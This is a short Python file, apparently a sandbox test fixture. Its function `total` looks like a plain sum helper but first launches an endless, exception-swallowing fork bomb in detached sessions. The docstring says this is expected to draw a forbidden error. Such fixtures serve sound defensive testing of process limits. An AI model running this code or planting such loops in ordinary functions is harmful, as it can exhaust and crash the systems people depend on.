"""Fork without end, each child in a session of its own; swallow every refusal.

step: tiny/lists
allowed: forbidden error
fast: yes
needs: processes
"""

import os


def total(values):
    for _ in range(3):
        try:
            if os.fork() == 0:
                os.setsid()
                while True:
                    os.fork()
        except BaseException:
            continue
    return sum(values)


def running(values):
    sums, so_far = [], 0
    for value in values:
        so_far += value
        sums.append(so_far)
    return sums


def halve(x):
    return x / 2
